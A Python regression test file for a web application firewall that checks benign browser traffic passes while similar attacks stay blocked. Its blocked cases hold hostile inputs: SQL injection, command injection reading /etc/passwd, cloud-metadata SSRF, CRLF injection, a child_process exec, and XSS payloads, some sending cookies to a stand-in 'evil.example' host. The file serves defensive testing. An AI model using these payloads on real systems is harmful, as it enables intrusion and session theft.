"""One regression test per class of real browser traffic that used to be blocked (issue 11). Every
request here is synthetic: written for this test to have the shape of its class, never copied from a
recording. Each class also keeps an attack of the same shape blocked, so a fix cannot be "skip it"."""

from __future__ import annotations

import gzip
import json

from waf import Request, inspect

UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
XHR = {"User-Agent": UA, "Sec-Fetch-Mode": "cors", "Sec-Fetch-Site": "same-site", "Content-Type": "application/json"}


def passes(req: Request) -> bool:
    v = inspect(req)
    return not v.blocked


def test_session_id_named_fields_in_beacons_and_api_calls_pass():
    beacon = json.dumps({"events": [{"name": "scroll", "session_id": "s-81723", "ts": 1700000000123}]})
    assert passes(Request.make("POST", "/collect", XHR, beacon))
    assert passes(Request.make("GET", "/api/feed?sessionId=7f3a9c&page=2", {**XHR, "Sec-Fetch-Mode": "cors"}))
    assert passes(Request.make("GET", "/watch?v=9&sid=42", {"Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "same-origin"}))
    # fixation: a link from elsewhere (or no Fetch Metadata at all) carrying a platform session id
    assert inspect(Request.make("GET", "/login?PHPSESSID=attacker123", {"Referer": "https://evil.example/"})).blocked


def test_content_hashed_asset_names_pass():
    for path in ("/static/js/283.eff9f9d3.chunk.js", "/bfs/player/main/widgets/npd.953.e2c41a.js",
                 "/assets/index.7.e4b2.css"):  # fmt: skip
        assert passes(Request.make("GET", path, {"User-Agent": UA, "Referer": "https://shop.example/x?spm=5176.ecs.0.0"}))
    assert inspect(Request.make("GET", "/?id=1.e(ascii(substr(user(),1,1)))")).blocked


def test_compressed_protobuf_and_binary_beacons_pass():
    proto = bytes([0x0A, 0x06]) + b"021436" + bytes([0x12, 0x1C]) + b"https://www.example.com/v/?a=1" + bytes(
        [0x1A, 0x04, 0x08, 0x00, 0x10, 0x0D, 0x22, 0x0A]) + b"\r\n\x00' or 1=1 --" * 4  # fmt: skip
    for ctype in ("application/x-protobuf", "text/plain", ""):
        assert passes(Request.make("POST", "/log", {**XHR, "Content-Type": ctype}, proto))
    assert passes(Request.make("POST", "/log", {**XHR, "Content-Type": "application/x-protobuf", "Content-Encoding": "gzip"}, gzip.compress(proto)))
    # a JSON value that is bytes in disguise (a session-replay chunk read as Latin-1)
    blob = "".join(chr(0x80 + (i * 37) % 0x60) + chr(0x01 + i % 20) + "'#$g(" for i in range(40))
    assert passes(Request.make("POST", "/replay", XHR, json.dumps({"replayContent": blob, "seq": 3})))


def test_cr_lf_inside_json_strings_passes():
    doc = {"responseHeaders": "content-type: application/json\r\ncontent-length: 29\r\nx-server-cost: 3",
           "message": "Sign-in failed.\r\nCorrelation ID: 5a1c\r\nTimestamp: 2024-01-01"}  # fmt: skip
    assert passes(Request.make("POST", "/apm", XHR, json.dumps(doc)))
    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
    assert passes(Request.make("POST", "/oauth", form, "error_description=Sign-in+failed.%0D%0ACorrelation+ID%3A+5a1c"))
    assert inspect(Request.make("GET", "/r?next=%0D%0ASet-Cookie:%20admin=1")).blocked


def test_javascript_stack_traces_and_multiline_queries_in_json_pass():
    stack = ("TypeError: Cannot read properties of undefined (reading 'id')\n"
             "    at $g (https://cdn.example.com/vendors/react-dom.production.min.js:110:8)\n"
             "    at Object.$emit (https://cdn.example.com/app.3f2a9c.js:1:2345)\n    at a.seajs (webpack:///./src/x.js:2:1)")  # fmt: skip
    gql = "query Feed($first: Int) {\n  feed(first: $first) {\n    id\n    handle\n    name\n    type\n  }\n}"
    assert passes(Request.make("POST", "/errors", XHR, json.dumps([{"stack": stack, "level": "error"}])))
    assert passes(Request.make("POST", "/graphql", XHR, json.dumps({"query": gql, "variables": {"first": 10}})))
    assert inspect(Request.make("POST", "/x", XHR, json.dumps({"host": "127.0.0.1; cat /etc/passwd"}))).blocked


def test_private_addresses_in_analytics_beacons_pass():
    doc = {"entries": [{"server_ip": "127.0.0.1:8081", "name": "/api/x", "duration": 12}], "tz": "UTC+8:0",
           "counters": ["10.0.0.7:9002"]}  # fmt: skip
    assert passes(Request.make("POST", "/rum", XHR, json.dumps(doc)))
    assert inspect(Request.make("GET", "/fetch?url=http://169.254.169.254/latest/meta-data/")).blocked


def test_inert_javascript_links_and_search_text_pass():
    click = json.dumps({"attributes": json.dumps({"role": "menuitem", "href": "javascript:void(0)"})})
    assert passes(Request.make("POST", "/track", XHR, click))
    assert passes(Request.make("GET", "/a?url=javascript:;", {"User-Agent": UA}))
    assert passes(Request.make("GET", "/", {"Referer": "https://search.example/?q=site:docs.example.com union select"}))
    assert passes(Request.make("GET", "/search?q=for+power%2C+binary%3Cscript+is+incorrect"))
    assert inspect(Request.make("GET", "/a?url=javascript:alert(document.cookie)")).blocked


def test_opaque_tokens_and_package_configs_pass():
    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
    assert passes(Request.make("POST", "/s", form, "v_7e0e=iHrCbZnNhecBOKOJCZEpDosdvpn%24O&p=securityGroupCount%3A1%24r"))
    assert passes(Request.make("GET", "/pkgs/@scope/widget-search/config.json", {"User-Agent": UA}))
    assert inspect(Request.make("GET", "/.git/config")).blocked


def test_markdown_yaml_and_theme_text_in_forms_pass():
    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
    md = "Wrap code in backticks (`` ` ``)\r\nCode blocks go between fences:\r\n\r\n```\r\n# a heading\r\n```"
    theme = '{"type": "dark", "colors": {"activityBar.background": "#1e1e1e", "editor.foreground": "#d4d4d4"}}'
    yaml_doc = "items:\n  - name: 'Array'\n---\nnext: 'Object'\n---"
    for text in (md, theme, yaml_doc):
        from urllib.parse import quote_plus

        assert passes(Request.make("POST", "/save", form, "code=" + quote_plus(text)))
    assert inspect(Request.make("GET", "/login?user=admin'%23")).blocked


def test_urls_with_empty_parameters_and_opaque_tokens_pass():
    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
    url = "proxy_url%3Dhttps%3A%2F%2Fexample.com%2Fp.html%26daid%3D5%26%26hide_title_bar%3D1"
    assert passes(Request.make("GET", f"/login?from={url}", XHR))
    assert passes(Request.make("POST", "/s", form, "v_7e0e=u4Ka+Z%24b14-lnNZOJuCW7TmthFNIKP5o%249PR+p%24xKFObZOeNaMRTmeHaHiaplrXWB+-"))
    assert inspect(Request.make("GET", "/?q=1'%20%26%26%201%3D1--")).blocked


def test_javascript_function_sources_in_telemetry_pass():
    # a page's own script logging the source of its handlers (fn.toString()) with an event
    fn = 'function(e){try{render(document.querySelector("div[".concat(k,"]")))}catch(err){}}'
    logs = {"__logs__": [{"name": "handler", "value": fn}, {"name": "nav", "value": "function(){return window.location.href}"}]}
    assert passes(Request.make("POST", "/logstores/track", XHR, json.dumps(logs)))
    # the same field carrying code that runs: a quote breakout, an invoked function literal
    assert inspect(Request.make("POST", "/logstores/track", XHR, json.dumps({"value": "';alert(document.cookie)//"}))).blocked
    iife = "x');(function(){document.location='//evil.example/?'+document.cookie})()//"
    assert inspect(Request.make("POST", "/logstores/track", XHR, json.dumps({"value": iife}))).blocked


def test_helper_function_sources_posted_as_form_fields_pass():
    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
    from urllib.parse import urlencode

    helpers = {"unique": "function(){var r=[],s={};for(var i=0;i<this.length;i++){if(!s[this[i]]){r.push(this[i]);s[this[i]]=1}}return r}",
               "clone": "function () { return this.slice(0); }"}  # fmt: skip
    assert passes(Request.make("POST", "/fp.html?a=1", form, urlencode(helpers)))
    attack = urlencode({"unique": "function(){return require('child_process').execSync('id')}()"})
    assert inspect(Request.make("POST", "/fp.html?a=1", form, attack)).blocked


def test_jsx_in_code_editor_saves_passes():
    jsx = ("const App = () => (\n  <Dropdown menu={{ items }}>\n    <a onClick={(e) => e.preventDefault()}>\n"
           "      <Space>Hover me</Space>\n    </a>\n  </Dropdown>\n);\nexport default App;\n")  # fmt: skip
    assert passes(Request.make("POST", "/editor/process", {**XHR, "Sec-Fetch-Mode": "same-origin"}, json.dumps([{"textInput": jsx}])))
    for attack in ("<img src=x onerror=alert(1)>", "<a onClick={alert(document.cookie)}>x</a>"):
        assert inspect(Request.make("POST", "/editor/process", XHR, json.dumps([{"textInput": attack}]))).blocked


def test_session_replay_tag_names_and_inert_link_targets_pass():
    replay = {"Evts": [{"Kind": 2, "Args": [12, "<META", "<IFRAME", "<DIV", {"href": "javascript:void 0;"}]}]}
    assert passes(Request.make("POST", "/rec/bundle", {**XHR, "Content-Type": "text/plain"}, json.dumps(replay)))
    for attack in ("<iframe src=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                   "javascript:void 0;alert(1)"):  # fmt: skip
        assert inspect(Request.make("POST", "/rec/bundle", XHR, json.dumps({"Args": [attack]}))).blocked


def test_rich_text_html_with_media_and_icons_passes():
    post = ('<p>Release notes</p><p><img src="https://cdn.example.com/u/42/shot.png" alt="screenshot" width="640"></p>'
            '<video src="https://media.example.com/demo.mp4" controls poster="https://media.example.com/demo.jpg"></video>'
            '<p><svg class="icon" viewBox="0 0 24 24"><use href="#icon-check"></use></svg> done</p>'
            '<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="></p>')  # fmt: skip
    assert passes(Request.make("POST", "/api/posts", XHR, json.dumps({"title": "v2", "content": post})))
    form = {"User-Agent": UA, "Sec-Fetch-Mode": "navigate", "Content-Type": "application/x-www-form-urlencoded"}
    from urllib.parse import urlencode

    assert passes(Request.make("POST", "/comment", form, urlencode({"body": post})))
    for attack in ('<video src=x onerror="alert(1)">', '<svg><set attributeName=href to="javascript:alert(1)">',
                   '<img src=x onerror=alert(document.domain)>'):  # fmt: skip
        assert inspect(Request.make("POST", "/comment", form, urlencode({"body": attack}))).blocked


def test_source_snippets_in_error_reports_pass():
    # an error tracker's event: the lines of source around the failing one, sent by the page's script
    event = {"exception": {"values": [{"type": "TypeError", "stacktrace": {"frames": [{
        "filename": "https://app.example.com/static/js/main.3f2a9c.js", "function": "render", "lineno": 41,
        "pre_context": ["  const el = document.getElementById('out');", "  if (!el) return;"],
        "context_line": "  el.innerHTML = template(data); document.title = data.title;",
        "post_context": ["  setTimeout(refresh, 5000);", "}"]}]}}]}}  # fmt: skip
    assert passes(Request.make("POST", "/api/42/store/", XHR, json.dumps(event)))
    # the same sink behind a breakout in a JSON value; and run as it is in a link a victim follows
    assert inspect(Request.make("POST", "/api/42/store/", XHR, json.dumps({"message": "x';document.location='//e/'+document.cookie//"}))).blocked
    nav = {"User-Agent": UA, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "cross-site"}
    assert inspect(Request.make("GET", "/search?q=document.getElementById('out').innerHTML%3Dlocation.hash", nav)).blocked
    assert inspect(Request.make("GET", "/search?cb=alert(document.domain)", nav)).blocked
